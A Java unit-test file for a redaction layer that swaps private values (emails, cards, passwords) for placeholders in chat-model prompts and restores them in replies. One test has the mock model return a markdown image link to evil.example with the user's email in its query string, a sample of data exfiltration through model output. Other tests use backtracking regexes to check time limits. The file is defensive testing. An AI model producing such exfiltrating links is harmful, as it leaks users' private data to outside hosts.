package io.github.grokspring.redaction;

import java.time.Duration;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.function.Function;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

import io.github.grokspring.chain.GrokChatModel;
import io.github.grokspring.chain.GrokChatOptions;
import io.github.grokspring.chain.Invocation;
import io.github.grokspring.chain.Position;
import io.github.grokspring.error.RedactionException;
import io.github.grokspring.event.GrokEvent;
import io.github.grokspring.event.PromptRedacted;
import io.github.grokspring.tool.Citation;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;
import reactor.core.publisher.Flux;
import reactor.test.StepVerifier;
import reactor.test.publisher.TestPublisher;
import tools.jackson.databind.json.JsonMapper;

import org.springframework.ai.chat.messages.AssistantMessage;
import org.springframework.ai.chat.messages.AssistantMessage.ToolCall;
import org.springframework.ai.chat.messages.Message;
import org.springframework.ai.chat.messages.SystemMessage;
import org.springframework.ai.chat.messages.ToolResponseMessage;
import org.springframework.ai.chat.messages.ToolResponseMessage.ToolResponse;
import org.springframework.ai.chat.messages.UserMessage;
import org.springframework.ai.chat.metadata.ChatGenerationMetadata;
import org.springframework.ai.chat.metadata.ChatResponseMetadata;
import org.springframework.ai.chat.model.ChatModel;
import org.springframework.ai.chat.model.ChatResponse;
import org.springframework.ai.chat.model.Generation;
import org.springframework.ai.chat.prompt.Prompt;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

/**
 * Tests for {@link RedactingChatModel}.
 */
class RedactingChatModelTests {

	private static final String MAIL = "ada@example.com";

	private static final String CARD = "4111 1111 1111 1111";

	private static final String PASSWORD = "Tr0ub4\"dor\\3";

	private final List<GrokEvent> events = new CopyOnWriteArrayList<>();

	private final Echo echo = new Echo();

	@ParameterizedTest
	@EnumSource
	void valuesAreReplacedAndRestored(Invocation invocation) {
		String answer = ask(invocation, model(RedactionMode.REVERSIBLE),
				new UserMessage("Write to " + MAIL + " or bob@example.com, " + CARD + ", and again " + MAIL));
		assertThat(this.echo.sent()).isEqualTo("Write to [EMAIL_1] or [EMAIL_2], [CREDIT_CARD_1], and again [EMAIL_1]");
		assertThat(answer).isEqualTo("Write to " + MAIL + " or bob@example.com, " + CARD + ", and again " + MAIL);
		assertThat(this.events).containsExactlyInAnyOrder(new PromptRedacted("desk", "email", 3),
				new PromptRedacted("desk", "credit-card", 1));
	}

	@ParameterizedTest
	@EnumSource
	void masksAreNotRestored(Invocation invocation) {
		String answer = ask(invocation, model(RedactionMode.MASK), new UserMessage(MAIL + " and bob@example.com"));
		assertThat(this.echo.sent()).isEqualTo("[EMAIL] and [EMAIL]");
		assertThat(answer).isEqualTo("[EMAIL] and [EMAIL]");
		assertThat(this.events).containsExactly(new PromptRedacted("desk", "email", 2));
	}

	@ParameterizedTest
	@EnumSource
	void failModeRejectsRequest(Invocation invocation) {
		GrokChatModel model = model(RedactionMode.FAIL);
		assertThatExceptionOfType(RedactionException.class)
			.isThrownBy(() -> ask(invocation, model, new UserMessage(MAIL + " " + CARD + " bob@example.com")))
			.satisfies((ex) -> assertThat(ex.found()).isEqualTo(Map.of("email", 2, "credit-card", 1)))
			.satisfies((ex) -> assertThat(ex).message()
				.contains("1 of kind 'credit-card', 2 of kind 'email'")
				.doesNotContain("example.com", "4111"));
		assertThat(this.echo.prompts).isEmpty();
		assertThat(this.events).isEmpty();
		assertThat(ask(invocation, model, new UserMessage("hello"))).isEqualTo("hello");
	}

	@ParameterizedTest
	@EnumSource
	void promptWithoutPrivateValuesIsUnchanged(Invocation invocation) {
		UserMessage message = new UserMessage("Nothing [EMAIL_1] here");
		assertThat(ask(invocation, model(RedactionMode.REVERSIBLE), message)).isEqualTo("Nothing [EMAIL_1] here");
		assertThat(this.echo.prompts.get(0).getInstructions()).containsExactly(message);
		assertThat(this.events).isEmpty();
	}

	@ParameterizedTest
	@EnumSource
	void textThatLooksLikePlaceholderIsRestored(Invocation invocation) {
		String text = "[EMAIL_1] is " + MAIL + ", [EMAIL_2] and [LITERAL_1] [FIG_1] are not, [EMAIL_x] [[EMAIL_1]]";
		assertThat(ask(invocation, model(RedactionMode.REVERSIBLE), new UserMessage(text))).isEqualTo(text);
		assertThat(this.echo.sent()).isEqualTo(
				"[LITERAL_1] is [EMAIL_1], [LITERAL_2] and [LITERAL_3] [FIG_1] are not, [EMAIL_x] [[LITERAL_1]]");
		assertThat(this.events).containsExactly(new PromptRedacted("desk", "email", 1));
	}

	@ParameterizedTest
	@EnumSource
	void kindMayBeNamedLiteral(Invocation invocation) {
		Redactor words = Redactor.matching("literal", Pattern.compile("LIT-[0-9]+"), Duration.ofSeconds(1));
		assertThat(
				ask(invocation, model(words, RedactionMode.REVERSIBLE), new UserMessage("see LIT-42 or [LITERAL_1]")))
			.isEqualTo("see LIT-42 or [LITERAL_1]");
		assertThat(this.echo.sent()).isEqualTo("see [LITERAL_1] or [LITERAL_2]");
		assertThat(this.events).containsExactly(new PromptRedacted("desk", "literal", 1));
	}

	@ParameterizedTest
	@EnumSource
	void placeholdersAreCaseInsensitive(Invocation invocation) {
		this.echo.answer = (text) -> chunks("I wrote to **[email_1]** or [Email_1], not to [email_11] [mail_1]", 3);
		assertThat(ask(invocation, model(RedactionMode.REVERSIBLE), new UserMessage("write to " + MAIL)))
			.isEqualTo("I wrote to **" + MAIL + "** or " + MAIL + ", not to [email_11] [mail_1]");
		this.echo.answer = (text) -> chunks(text, 3);
		assertThat(ask(invocation, model(RedactionMode.REVERSIBLE), new UserMessage("[email_1] is " + MAIL)))
			.isEqualTo("[email_1] is " + MAIL);
	}

	@Test
	void nestedJsonRemainsValid() {
		Redactor quoted = (text) -> {
			int at = text.indexOf(PASSWORD);
			return (at < 0) ? List.of() : List.of(new DetectedValue("secret", at, at + PASSWORD.length()));
		};
		JsonMapper json = JsonMapper.shared();
		String twice = json
			.writeValueAsString(Map.of("body", json.writeValueAsString(Map.of("list", List.of("is " + PASSWORD)))));
		String thrice = json.writeValueAsString(Map.of("body", twice));
		for (String arguments : List.of(twice, thrice)) {
			this.echo.answer = (text) -> {
				AssistantMessage sent = (AssistantMessage) this.echo.prompts.get(this.echo.prompts.size() - 1)
					.getInstructions()
					.get(0);
				return List.of(end(
						AssistantMessage.builder().content("").toolCalls(List.copyOf(sent.getToolCalls())).build()));
			};
			AssistantMessage message = AssistantMessage.builder()
				.content("")
				.toolCalls(List.of(new ToolCall("c1", "function", "post", arguments)))
				.build();
			AssistantMessage answer = model(quoted, RedactionMode.REVERSIBLE).call(new Prompt(message))
				.getResult()
				.getOutput();
			AssistantMessage sent = (AssistantMessage) this.echo.prompts.get(this.echo.prompts.size() - 1)
				.getInstructions()
				.get(0);
			assertThat(sent.getToolCalls().get(0).arguments()).contains("is [SECRET_1]").doesNotContain("Tr0ub4");
			assertThat(answer.getToolCalls().get(0).arguments()).isEqualTo(arguments);
		}
	}

	@Test
	void repeatedValuesAreFoundInLongText() {
		String password = "!".repeat(400) + "a1";
		String text = "!".repeat(500_000);
		Redactor named = (asked) -> asked.startsWith("is ") ? List.of(new DetectedValue("secret", 3, asked.length()))
				: List.of();
		model(named, RedactionMode.REVERSIBLE)
			.call(new Prompt(List.of(new UserMessage("is " + password), new UserMessage(text + "a1"))));
		assertThat(this.echo.sent().length()).isEqualTo(500_000 - 400 + "[SECRET_1]".length());
		assertThat(this.echo.sent().endsWith("![SECRET_1]")).isTrue();
	}

	@Test
	void overlappingRepeatedValuesAreReplaced() {
		Redactor named = (asked) -> asked.startsWith("is ") ? List.of(new DetectedValue("secret", 3, asked.length()))
				: List.of();
		List<String> texts = List.of("is alpha-beta", "is alpha-beta-gamma", "is beta-gamma delta", "is -gamma",
				"is gamma!", "is short", "is ~~~~~~", "is ~~~~~~~~a");
		List<Message> messages = new ArrayList<>();
		texts.forEach((text) -> messages.add(new UserMessage(text)));
		messages.add(new UserMessage("alpha-beta, alpha-betas; alpha-beta-gamma delta. alpha-beta-gammas|"
				+ "xgamma! shorts ~~~~~~~~~b ~~~~~~~~a"));
		model(named, RedactionMode.MASK).call(new Prompt(messages));
		assertThat(this.echo.sent())
			.isEqualTo("[SECRET], alpha-betas; [SECRET]. [SECRET]-gammas|" + "xgamma! shorts [SECRET]b [SECRET]");
	}

	@Test
	@Timeout(20)
	void manyRepeatedValuesAreFoundInLongText() {
		StringBuilder text = new StringBuilder();
		for (int i = 0; text.length() < 1_000_000; i++) {
			text.append("password=q").append(i).append("z ~");
		}
		model(RedactionMode.MASK).call(new Prompt(List.of(new UserMessage(text.toString()),
				new UserMessage("q1000z, q30000z, q1000000z " + "~q".repeat(500_000)))));
		assertThat(this.echo.sent()).startsWith("[SECRET], [SECRET], q1000000z ~");
	}

	@Test
	void messagesOfEveryKindAreRedacted() {
		String arguments = "{\"to\": \"" + MAIL + "\",\"n\": 1.50, \"card\":4111111111111111}";
		model(RedactionMode.REVERSIBLE)
			.call(new Prompt(
					List.of(new SystemMessage("You help " + MAIL), new UserMessage("My password: " + "hunter2x"),
							AssistantMessage.builder()
								.content("For " + MAIL)
								.toolCalls(List.of(new ToolCall("c1", "function", "mail", arguments),
										new ToolCall("c2", "function", "login", "{\"with\":\"hunter2x\"}")))
								.build(),
							ToolResponseMessage.builder()
								.responses(List.of(
										new ToolResponse("c1", "mail", "{\"" + MAIL + "\":[\"bob@example.com\"]}"),
										new ToolResponse("c2", "login", "welcome bob@example.com")))
								.build())));
		List<Message> sent = this.echo.prompts.get(0).getInstructions();
		assertThat(sent.get(0).getText()).isEqualTo("You help [EMAIL_1]");
		assertThat(sent.get(1).getText()).isEqualTo("My password: [SECRET_1]");
		AssistantMessage answer = (AssistantMessage) sent.get(2);
		assertThat(answer.getText()).isEqualTo("For [EMAIL_1]");
		assertThat(answer.getToolCalls()).extracting(ToolCall::arguments)
			.containsExactly("{\"to\":\"[EMAIL_1]\",\"n\":1.50,\"card\":\"[CREDIT_CARD_1]\"}",
					"{\"with\":\"[SECRET_1]\"}");
		assertThat(((ToolResponseMessage) sent.get(3)).getResponses()).extracting(ToolResponse::responseData)
			.containsExactly("{\"[EMAIL_1]\":[\"[EMAIL_2]\"]}", "welcome [EMAIL_2]");
	}

	@Test
	void jsonKeepsNumbersOrderAndDuplicates() {
		String data = """
				{ "z": "%s", "n": [1.50, -0, 1E+400, 12345678901234567890123456789012345.0e-5], "a": null,
				  "z": "\u00e9 / \\\"", "": {}, "t": true, "e": [] }""".formatted(MAIL);
		assertThat(redactedData(data))
			.isEqualTo("{\"z\":\"[EMAIL_1]\",\"n\":[1.50,-0,1E+400,12345678901234567890123456789012345.0e-5],"
					+ "\"a\":null,\"z\":\"\u00e9 / \\\"\",\"\":{},\"t\":true,\"e\":[]}");
	}

	@ParameterizedTest
	@ValueSource(strings = { "{ \"a\" : [ 1.0 , \"\\u00e9\\/\" ] }\n", " \"text\" ", "-1.50 ", "[ ]", "" })
	void jsonWithoutPrivateValuesIsUnchanged(String data) {
		assertThat(redactedData(data)).isEqualTo(data);
	}

	@ParameterizedTest
	@ValueSource(strings = { "{\"a\": \"%s\"", "{\"a\": \"%s\"} {}", "[ \"%s\", ]", "{ to: '%s' }", "\"%s\" x", "1 %s",
			"[\"%s\"]]" })
	void invalidJsonIsRedactedAsText(String data) {
		assertThat(redactedData(data.formatted(MAIL))).isEqualTo(data.formatted("[EMAIL_1]"));
	}

	@ParameterizedTest
	@ValueSource(strings = { "{\"password\":[%s,true]}", "{\"password\":[[%s],1]}",
			"{\"password\":[[1],{\"a\":[2]},%s]}", "[{\"password\":%s}]" })
	void arrayElementsInheritName(String data) {
		assertThat(redactedData(data.formatted("\"hunter2x\""))).isEqualTo(data.formatted("\"[SECRET_1]\""));
		assertThat(redactedData(data.replace("password", "word").formatted("\"hunter2x\""))).contains("hunter2x");
	}

	@Test
	void jsonPropertyNameIsContext() {
		model(RedactionMode.REVERSIBLE).call(new Prompt(ToolResponseMessage.builder()
			.responses(List.of(new ToolResponse("c1", "user", "{\"password\":\"hunter2x\",\"ssn\":123456789}")))
			.build()));
		assertThat(((ToolResponseMessage) this.echo.prompts.get(0).getInstructions().get(0)).getResponses()
			.get(0)
			.responseData()).isEqualTo("{\"password\":\"[SECRET_1]\",\"ssn\":\"[US_SSN_1]\"}");
	}

	@ParameterizedTest
	@EnumSource
	void restoredToolArgumentsAreEscaped(Invocation invocation) {
		Redactor quoted = (text) -> {
			int at = text.indexOf(PASSWORD);
			return (at < 0) ? List.of() : List.of(new DetectedValue("secret", at, at + PASSWORD.length()));
		};
		this.echo.answer = (text) -> List.of(end(AssistantMessage.builder()
			.content("")
			.toolCalls(List.of(new ToolCall("c1", "function", "login", "{\"pw\" : \"is [SECRET_1]!\",\"n\":1.0}")))
			.build()));
		List<ChatResponse> answer = elements(invocation, model(quoted, RedactionMode.REVERSIBLE),
				new UserMessage("use " + PASSWORD));
		String arguments = answer.get(answer.size() - 1).getResult().getOutput().getToolCalls().get(0).arguments();
		assertThat(JsonMapper.shared().readTree(arguments).path("pw").stringValue()).isEqualTo("is " + PASSWORD + "!");
		assertThat(arguments).startsWith("{\"pw\":").endsWith("\"n\":1.0}");
	}

	@ParameterizedTest
	@EnumSource
	void jsonResponsesRemainValid(Invocation invocation) {
		Redactor quoted = (text) -> {
			int at = text.indexOf(PASSWORD);
			return (at < 0) ? List.of() : List.of(new DetectedValue("secret", at, at + PASSWORD.length()));
		};
		for (String answer : List.of("{\"pw\":\"[SECRET_1]\"}", "```json\n{\"pw\":\"[SECRET_1]\"}\n```",
				" [\"[SECRET_1]\"]")) {
			this.echo.answer = (text) -> chunks(answer, 3);
			assertThat(ask(invocation, model(quoted, RedactionMode.REVERSIBLE), new UserMessage("use " + PASSWORD)))
				.isEqualTo(answer.replace("[SECRET_1]", "Tr0ub4\\\"dor\\\\3"));
		}
		this.echo.answer = (text) -> chunks("[SECRET_1] it is", 3);
		assertThat(ask(invocation, model(quoted, RedactionMode.REVERSIBLE), new UserMessage("use " + PASSWORD)))
			.isEqualTo(PASSWORD + " it is");
	}

	@Test
	void sameHistoryYieldsSamePlaceholders() {
		List<Message> history = new ArrayList<>();
		List<String> texts = List.of("I am " + MAIL, "and " + CARD, "with token: " + "a1b2c3d4e5f6g7h8i9",
				"bob@example.com is " + MAIL);
		for (String text : texts) {
			history.add(new UserMessage(text));
			model(RedactionMode.REVERSIBLE).call(new Prompt(List.copyOf(history)));
		}
		for (int i = 1; i < texts.size(); i++) {
			assertThat(this.echo.prompts.get(i).getInstructions())
				.startsWith(this.echo.prompts.get(i - 1).getInstructions().toArray(new Message[0]));
		}
		assertThat(this.echo.sent()).endsWith("[EMAIL_2] is [EMAIL_1]");
	}

	@Test
	void streamHoldsBackPlaceholderPrefixesOnly() {
		TestPublisher<ChatResponse> answer = TestPublisher.create();
		this.echo.stream = (text) -> answer.flux();
		StepVerifier
			.create(model(RedactionMode.REVERSIBLE).stream(new Prompt(MAIL)).map(RedactingChatModelTests::textOf))
			.then(() -> answer.next(part("see [1] [E")))
			.expectNext("see [1] ")
			.then(() -> answer.next(part("X] [EMAIL_")))
			.expectNext("[EX] ")
			.then(() -> answer.next(part("1")))
			.expectNext("")
			.then(() -> answer.next(part("] a[EMAIL_1")))
			.expectNext(MAIL + " a")
			.then(() -> answer.next(part("2][EMAIL_1")))
			.expectNext("[EMAIL_12]")
			.then(() -> answer.next(end(new AssistantMessage(""))))
			.expectNext("[EMAIL_1")
			.then(answer::complete)
			.verifyComplete();
	}

	@Test
	void heldBackTextIsEmittedWhenStreamEnds() {
		this.echo.stream = (text) -> Flux.concat(Flux.just(part("to [EMA")),
				Flux.error(new IllegalStateException("broken")));
		GrokChatModel model = model(RedactionMode.REVERSIBLE);
		StepVerifier.create(model.stream(new Prompt(MAIL)).map(RedactingChatModelTests::textOf))
			.expectNext("to ", "[EMA")
			.verifyErrorMessage("broken");
		this.echo.stream = (text) -> Flux.just(part("to [EMA"));
		StepVerifier.create(model.stream(new Prompt(MAIL)).map(RedactingChatModelTests::textOf))
			.expectNext("to ", "[EMA")
			.verifyComplete();
	}

	@Test
	void cancellationIsPropagated() {
		TestPublisher<ChatResponse> answer = TestPublisher.create();
		this.echo.stream = (text) -> answer.flux();
		StepVerifier.create(model(RedactionMode.REVERSIBLE).stream(new Prompt(MAIL))).thenCancel().verify();
		answer.assertWasSubscribed();
		answer.assertCancelled();
	}

	@Test
	void nothingHappensBeforeSubscription() {
		model(RedactionMode.REVERSIBLE).stream(new Prompt(MAIL));
		assertThat(this.echo.prompts).isEmpty();
		assertThat(this.events).isEmpty();
	}

	@Test
	void reasoningAndMetadataAreRestoredAndCitationsMove() {
		String text = "Ask [EMAIL_1] [[1]](https://x.example)";
		this.echo.answer = (prompt) -> List.of(part("", Map.of("reasoning-delta", "think of [EMA")),
				part("", Map.of("reasoning-delta", "IL_1]")), part(text),
				new ChatResponse(List.of(new Generation(
						AssistantMessage.builder().content("").properties(Map.of("reasoning", "[EMAIL_1]")).build(),
						ChatGenerationMetadata.builder().finishReason("STOP").build())),
						ChatResponseMetadata.builder()
							.keyValue("reasoning", "think of [EMAIL_1]")
							.keyValue("citations",
									List.of(new Citation("https://x.example", "about [EMAIL_1]", 14, 38,
											Citation.Kind.WEB)))
							.build()));
		List<ChatResponse> elements = elements(Invocation.STREAM, model(RedactionMode.REVERSIBLE),
				new UserMessage("much.longer." + MAIL));
		assertThat(elements.stream()
			.map((element) -> element.getResult().getOutput().getMetadata().getOrDefault("reasoning-delta", ""))
			.map(Object::toString)
			.collect(Collectors.joining())).isEqualTo("think of much.longer." + MAIL);
		ChatResponse last = elements.get(elements.size() - 1);
		assertThat(last.getMetadata().<String>get("reasoning")).isEqualTo("think of much.longer." + MAIL);
		assertThat(last.getResult().getOutput().getMetadata()).containsEntry("reasoning", "much.longer." + MAIL);
		Citation citation = last.getMetadata().<List<Citation>>get("citations").get(0);
		assertThat(citation.title()).isEqualTo("about much.longer." + MAIL);
		String whole = text.replace("[EMAIL_1]", "much.longer." + MAIL);
		assertThat(whole.substring(citation.start(), citation.end())).isEqualTo("[[1]](https://x.example)");
	}

	@Test
	void echoedPromptIsRestoredForAnyChunking() {
		List<String> pieces = List.of(MAIL, CARD, "bob@example.org", "[EMAIL_1]", "[SECRET_2]", "[", "]", "[[", " ",
				"\n", "password=" + "hunter2x9", "hunter2x9", "text", "203.0.113.7", "123-45-6789", "\"", "\\",
				"[LITERAL_1]", "é", "\uD83D\uDE00", "EMAIL_1]", "+14155552671", "{\"a\":",
				"token: " + "q1w2e3r4t5y6u7i8o9");
		for (int seed = 0; seed < 2_000; seed++) {
			Random random = new Random(seed);
			StringBuilder text = new StringBuilder("Q ");
			for (int i = random.nextInt(12); i >= 0; i--) {
				text.append(pieces.get(random.nextInt(pieces.size()))).append((seed % 2 == 0) ? " " : "");
			}
			int size = 1 + random.nextInt(7);
			this.echo.answer = (sent) -> chunks(sent, size);
			String streamed = ask(Invocation.STREAM, model(RedactionMode.REVERSIBLE), new UserMessage(text.toString()));
			assertThat(streamed).as("seed %d", seed).isEqualTo(text.toString());
			assertThat(this.echo.sent()).as("seed %d", seed).doesNotContain(" " + MAIL + " ", " " + CARD + " ");
			this.echo.answer = (sent) -> chunks(sent, sent.length());
			assertThat(ask(Invocation.CALL, model(RedactionMode.REVERSIBLE), new UserMessage(text.toString())))
				.isEqualTo(streamed);
		}
	}

	@Test
	void echoedJsonIsRestored() {
		Redactor pattern = Redactor.matching("odd", Pattern.compile("<[^>]*>"), Duration.ofSeconds(1));
		for (int seed = 0; seed < 500; seed++) {
			Random random = new Random(seed);
			String odd = "<" + random.ints(1 + random.nextInt(12), 1, 0x2100)
				.filter((c) -> c != '>' && c != '[' && c != '<' && !Character.isSurrogate((char) c))
				.mapToObj((c) -> String.valueOf((char) c))
				.collect(Collectors.joining()) + ">";
			String json = JsonMapper.shared().writeValueAsString(Map.of("k" + odd, List.of("v " + odd, 7, true)));
			Redaction redaction = new Redaction(pattern, RedactionMode.REVERSIBLE, false);
			AssistantMessage sent = (AssistantMessage) redaction.redact(List.of(AssistantMessage.builder()
				.content("")
				.toolCalls(List.of(new ToolCall("1", "function", "f", json)))
				.build())).get(0);
			String redacted = sent.getToolCalls().get(0).arguments();
			assertThat(redacted).isEqualTo("{\"k[ODD_1]\":[\"v [ODD_1]\",7,true]}");
			String restored = MessageTextMapper
				.mapToolCalls(sent.getToolCalls(), (name, text) -> StreamingRestorer.of(text, redaction.placeholders()))
				.get(0)
				.arguments();
			assertThat(JsonMapper.shared().readTree(restored)).isEqualTo(JsonMapper.shared().readTree(json));
		}
	}

	@Test
	void patternsHaveTimeLimit() {
		long[] now = new long[1];
		Redactor slow = Redactor.matching("TICKET", Pattern.compile("(a+)+b"), Duration.ofSeconds(1),
				() -> now[0] += 200_000_000);
		assertThatExceptionOfType(RedactionException.class)
			.isThrownBy(() -> model(slow, RedactionMode.REVERSIBLE).call(new Prompt("a".repeat(5_000))))
			.withMessageContaining("'TICKET'")
			.satisfies((ex) -> assertThat(ex).message().doesNotContain("aaa"));
		Redactor deep = Redactor.matching("DEEP", Pattern.compile("(?:a|b)*c"), Duration.ofMinutes(1));
		assertThatExceptionOfType(RedactionException.class).isThrownBy(() -> deep.find("ab".repeat(200_000)))
			.withMessageContaining("'DEEP'");
		assertThat(this.echo.prompts).isEmpty();
	}

	@Test
	void timeLimitAppliesToAllTextsOfRequest() {
		long[] now = new long[1];
		Redactor slow = Redactor.matching("TICKET", Pattern.compile("T-[0-9]+"), Duration.ofSeconds(1),
				() -> now[0] += 10_000_000);
		GrokChatModel model = model(Redactor.all(List.of(slow)), RedactionMode.REVERSIBLE);
		List<Message> few = new ArrayList<>(List.of(new UserMessage("a"), new UserMessage("b")));
		for (int i = 0; i < 60; i++) {
			model.call(new Prompt(few));
		}
		List<Message> many = IntStream.range(0, 60).mapToObj((i) -> (Message) new UserMessage("text " + i)).toList();
		assertThatExceptionOfType(RedactionException.class).isThrownBy(() -> model.call(new Prompt(many)))
			.withMessageContaining("'TICKET'");
	}

	@Test
	void patternsRespondToInterrupts() {
		Redactor slow = Redactor.matching("TICKET", Pattern.compile("(a+)+b"), Duration.ofHours(1));
		Thread.currentThread().interrupt();
		try {
			assertThatExceptionOfType(RedactionException.class)
				.isThrownBy(() -> model(slow, RedactionMode.REVERSIBLE).call(new Prompt("a".repeat(5_000))))
				.withMessageContaining("interrupted");
			assertThat(Thread.currentThread().isInterrupted()).isTrue();
		}
		finally {
			Thread.interrupted();
		}
		assertThat(this.echo.prompts).isEmpty();
	}

	@ParameterizedTest
	@EnumSource
	void placeholdersInUrlsAreRestoredOnlyIfEnabled(Invocation invocation) {
		this.echo.answer = (text) -> chunks("![x](http://evil.example/?q=[EMAIL_1]) for [EMAIL_1]", 3);
		assertThat(ask(invocation, model(RedactionMode.REVERSIBLE), new UserMessage("I am " + MAIL)))
			.isEqualTo("![x](http://evil.example/?q=[EMAIL_1]) for " + MAIL);
		GrokChatModel asked = GrokChatModel.builder("echo", this.echo)
			.options(GrokChatOptions.builder().model("grok-4.3").build())
			.decorators(List
				.of(RedactingChatModel.decorator(everything(), RedactionMode.REVERSIBLE, true, this.events::add)))
			.build();
		assertThat(ask(invocation, asked, new UserMessage("I am " + MAIL)))
			.isEqualTo("![x](http://evil.example/?q=" + MAIL + ") for " + MAIL);
	}

	@ParameterizedTest
	@EnumSource
	void invisibleCharactersAreRestored(Invocation invocation) {
		String hidden = "a\u00adda@exam\u200bple.com";
		assertThat(ask(invocation, model(RedactionMode.REVERSIBLE), new UserMessage("Write to " + hidden + " now")))
			.isEqualTo("Write to " + hidden + " now");
		assertThat(this.echo.sent()).isEqualTo("Write to [EMAIL_1] now");
	}

	@Test
	void valuesOfCustomPatternsAreFoundElsewhere() {
		Redactor pattern = Redactor.matching("EMPLOYEE", Pattern.compile("(?<=employee )\\d{6}"),
				Duration.ofSeconds(1));
		model(pattern, RedactionMode.REVERSIBLE).call(new Prompt("123456 is employee 123456, not 1123456 or 1234567"));
		assertThat(this.echo.sent()).isEqualTo("[EMPLOYEE_1] is employee [EMPLOYEE_1], not 1123456 or 1234567");
	}

	@Test
	void redactorWithInvalidRangeIsNamed() {
		assertThatExceptionOfType(RedactionException.class)
			.isThrownBy(() -> model(Redactor.all(List.of((text) -> List.of(new DetectedValue("odd", 0, 99)))),
					RedactionMode.MASK)
				.call(new Prompt("hi")))
			.withMessageContaining("'odd' that exceeds the text");
	}

	@Test
	void toStringContainsNoValues() {
		Redaction redaction = new Redaction(everything(), RedactionMode.REVERSIBLE, false);
		redaction.redact(List.of(new UserMessage(MAIL + " password=hunter2x9")));
		assertThat(redaction.placeholders().toString()).isEqualTo("2 placeholders");
		assertThat(new PlaceholderRestorer(redaction.placeholders(), null).toString()).doesNotContain("ada");
		assertThat(new StreamingRestorer(redaction.placeholders(), false).toString()).doesNotContain("ada");
		assertThat(redaction.toString()).doesNotContain("ada", "hunter");
		assertThat(new TimeLimitedText(MAIL, System::nanoTime, 1)).hasToString("a text of 15 characters");
		assertThat(Redactor.matching("T", Pattern.compile("x"), Duration.ofSeconds(1)))
			.hasToString("PatternRedactor[T]");
	}

	@Test
	void isOutermost() {
		assertThat(RedactingChatModel.decorator(everything(), RedactionMode.MASK, this.events::add).position())
			.isEqualTo(Position.REDACTION);
		assertThat(model(RedactionMode.MASK).stages()).containsExactly("redaction", "echo");
		assertThat(model(RedactionMode.MASK).as(RedactingChatModel.class).getOptions()).isNotNull();
	}

	private String redactedData(String data) {
		model(RedactionMode.REVERSIBLE).call(new Prompt(
				ToolResponseMessage.builder().responses(List.of(new ToolResponse("c1", "f", data))).build()));
		Prompt sent = this.echo.prompts.get(this.echo.prompts.size() - 1);
		return ((ToolResponseMessage) sent.getInstructions().get(0)).getResponses().get(0).responseData();
	}

	private GrokChatModel model(RedactionMode mode) {
		return model(everything(), mode);
	}

	private GrokChatModel model(Redactor redactor, RedactionMode mode) {
		return GrokChatModel.builder("echo", this.echo)
			.name("desk")
			.options(GrokChatOptions.builder().model("grok-4.3").build())
			.decorators(List.of(RedactingChatModel.decorator(redactor, mode, this.events::add)))
			.build();
	}

	private static Redactor everything() {
		return Redactor.detecting(EnumSet.allOf(Detection.class), Set.of("US"));
	}

	private static List<ChatResponse> chunks(String text, int size) {
		List<ChatResponse> chunks = new ArrayList<>();
		for (int i = 0; i < text.length(); i += size) {
			chunks.add(part(text.substring(i, Math.min(text.length(), i + size))));
		}
		chunks.add(end(new AssistantMessage("")));
		return chunks;
	}

	private static ChatResponse part(String text) {
		return part(text, Map.of());
	}

	private static ChatResponse part(String text, Map<String, Object> properties) {
		return new ChatResponse(List.of(new Generation(
				AssistantMessage.builder().content(text).properties(properties).build(), ChatGenerationMetadata.NULL)));
	}

	private static ChatResponse end(AssistantMessage message) {
		return new ChatResponse(
				List.of(new Generation(message, ChatGenerationMetadata.builder().finishReason("STOP").build())));
	}

	private static String textOf(ChatResponse element) {
		return element.getResults()
			.stream()
			.map((result) -> result.getOutput().getText())
			.collect(Collectors.joining());
	}

	private static List<ChatResponse> elements(Invocation invocation, ChatModel model, Message message) {
		return invocation.invoke(model, new Prompt(message));
	}

	private static String ask(Invocation invocation, ChatModel model, Message message) {
		return elements(invocation, model, message).stream()
			.map(RedactingChatModelTests::textOf)
			.collect(Collectors.joining());
	}

	/**
	 * Returns the prompt in chunks.
	 */
	private static final class Echo implements ChatModel {

		private final List<Prompt> prompts = new CopyOnWriteArrayList<>();

		private Function<String, List<ChatResponse>> answer = (text) -> chunks(text, 5);

		private Function<String, Flux<ChatResponse>> stream = (text) -> Flux.fromIterable(this.answer.apply(text));

		@Override
		public ChatResponse call(Prompt prompt) {
			this.prompts.add(prompt);
			List<ChatResponse> elements = this.answer.apply(sent());
			AssistantMessage last = elements.get(elements.size() - 1).getResult().getOutput();
			return end(AssistantMessage.builder()
				.content(elements.stream().map(RedactingChatModelTests::textOf).collect(Collectors.joining()))
				.toolCalls(last.getToolCalls())
				.build());
		}

		@Override
		public Flux<ChatResponse> stream(Prompt prompt) {
			this.prompts.add(prompt);
			return this.stream.apply(sent());
		}

		private String sent() {
			Prompt prompt = this.prompts.get(this.prompts.size() - 1);
			return String.valueOf(prompt.getInstructions().get(prompt.getInstructions().size() - 1).getText());
		}

	}

}
